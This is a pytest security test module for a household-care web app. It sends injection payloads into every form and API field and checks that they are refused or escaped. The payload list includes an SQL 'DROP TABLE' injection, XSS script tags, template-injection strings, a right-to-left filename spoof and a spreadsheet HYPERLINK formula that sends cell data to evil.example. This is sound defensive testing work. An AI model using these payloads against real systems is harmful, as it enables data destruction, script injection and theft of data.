"""What is typed to break things: in every field for words it is refused or kept as words."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
import requests

from tests.conftest import Server
from tests.services.households.caring import GRANNY, HOME, lonlat
from tests.web import caring_site
from tests.web.caring_site import Site, change, note, visit
from tests.web.conftest import Client

TEXTS = {
    "sql": "x'); DROP TABLE households CASCADE; --",
    "sql or": "' OR ''='",
    "script": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "nul": "a\x00b",
    "pattern": "%_\\%*?[a-z]{9}",
    "right to left": "\u202egnp.exe\u2066",
    "template": "{{ 7*7 }}${7*7}%(x)s{0}",
}
_TABLES = ("households", "residents", "units", "accounts", "visits", "notes", "audit_log")
Ask = Callable[[Client, str], requests.Response]


def _address(path: str, *names: str, **more: str) -> Ask:
    """Put a text into fields of an address."""
    return lambda client, text: client.get(path, params=dict.fromkeys(names, text) | more)


def _form(path: str, *names: str, **more: str) -> Ask:
    """Put a text into fields of a form."""
    return lambda client, text: client.post(path, data=dict.fromkeys(names, text) | more)


@dataclass(frozen=True)
class Field:
    """Where somebody types, and who."""

    who: str
    ask: Ask


_CARD = f"/households/{HOME}"
FIELDS = {
    "address": Field("worker", _address("/households", "q")),
    "unit": Field("worker", _address("/households", "unit")),
    "group": Field("worker", _address("/households", "tag")),
    "area": Field("worker", _address("/households", "area")),
    "after": Field("worker", _address("/api/households", "after")),
    "name": Field("worker", _form("/households", "name")),
    "words in a body": Field(
        "worker", lambda c, text: c.post("/api/households/search", json={"q": text, "name": text})
    ),
    "number": Field("worker", _form("/residents", "number")),
    "due": Field("worker", _address("/due", "unit", "after", "after_for", after_on="2026-01-01")),
    "round": Field("worker", _form("/due/round", "homes")),
    "assistance": Field("manager", _address("/assistance", "kind", "after", "after_kind")),
    "grant": Field(
        "manager",
        _form("/assistance/grants", "reason", "kind", resident=GRANNY, begins="2026-01-01"),
    ),
    "reason": Field(
        "manager", _form("/assistance/grants", "resident", "reason", kind="x", begins="2026-01-01")
    ),
    "visit": Field("worker", lambda c, text: c.post(f"/api{_CARD}/visits", json=visit(note=text))),
    "rule of a visit": Field(
        "worker", lambda c, text: c.post(f"/api{_CARD}/visits", json=visit(rule=text))
    ),
    "note": Field("worker", lambda c, text: c.post(f"/api{_CARD}/notes", json=note(text=text))),
    "note of a change": Field(
        "worker",
        lambda c, text: c.post(
            f"/api{_CARD}/changes", json=change("position", lonlat(0.5), note=text)
        ),
    ),
    "newcomer": Field(
        "worker",
        lambda c, text: c.post(
            f"/api{_CARD}/changes",
            json=change("new_resident", {"name": text, "birth_date": "1950-01-01"}),
        ),
    ),
    "newcomer's fields": Field(
        "worker",
        lambda c, text: c.post(
            f"/api{_CARD}/changes",
            json=change(
                "new_resident",
                dict.fromkeys(("name", "birth_date", "phone", "id_number", "tags", "sex"), text),
            ),
        ),
    ),
    "where to": Field(
        "worker",
        lambda c, text: c.post(
            f"/api{_CARD}/changes",
            json=change("moved", {"on": "2026-10-01", "to": text}, resident=f"R{HOME[:-1]}2"),
        ),
    ),
    "log": Field(
        "admin", _address("/admin/audit", "who", "action", "subject", "unit", "head", check="1")
    ),
    "account": Field(
        "admin", _form("/admin/accounts", "name", "display_name", "units", role="planner")
    ),
    "key": Field("admin", _form("/admin/keys", "name", collections="units")),
    "certificate": Field(
        "admin",
        _form("/roster/employments", "certificate_number", name="worker", hired_on="2025-01-01"),
    ),
    "log-in": Field(
        "worker", lambda c, text: Client(c.address).try_log_in(text, text, data={"next": text})
    ),
    "search": Field("worker", _address("/api/units/search", "q")),
}


@pytest.fixture(scope="module")
def site(server: Server, template: str, tmp_path_factory) -> Iterator[Site]:
    with caring_site.opened(server, template, tmp_path_factory.mktemp("hostile")) as opened:
        yield opened


def _counts(site: Site) -> dict[str, int]:
    return {name: int(str(site.care.number(f"SELECT count(*) FROM {name}"))) for name in _TABLES}


@pytest.mark.parametrize("field", FIELDS)
def test_words_stay_words(site: Site, field: str) -> None:
    before = _counts(site)
    for text in TEXTS.values():
        answer = FIELDS[field].ask(site[FIELDS[field].who], text)
        assert answer.status_code in {200, 201, 404, 409, 422, 429, 401}, (text, answer.text)
        if answer.headers["content-type"].startswith("text/html"):
            assert "<script>alert" not in answer.text
            assert "<img src=x" not in answer.text
            assert "49$49" not in answer.text
        assert "psycopg" not in answer.text
        assert "Traceback" not in answer.text
    after = _counts(site)
    assert all(after[name] >= count for name, count in before.items())
    assert after["households"] == before["households"]
    assert after["residents"] == before["residents"]


def test_ten_megabytes_are_too_many_in_every_field(site: Site) -> None:
    text = "长" * 3_500_000
    for name, field in FIELDS.items():
        if field.ask.__qualname__.startswith("_address"):
            continue  # no server reads an address of that length
        answer = field.ask(site[field.who], text)
        assert answer.status_code in {401, 404, 413, 422}, (name, answer.status_code)
        assert len(answer.content) < 60_000, name


def test_what_was_kept_is_shown_as_words(site: Site) -> None:
    for text in TEXTS.values():
        for name in ("note", "newcomer"):
            FIELDS[name].ask(site["worker"], text)
    page = site["worker"].get(_CARD).text
    assert "&lt;script&gt;alert(1)" in page
    for text in ("<script>alert", "<img src=x"):
        assert text not in page
    changes = site["manager"].get("/changes").text
    assert "&lt;script&gt;alert(1)" in changes
    assert "<script>alert" not in changes
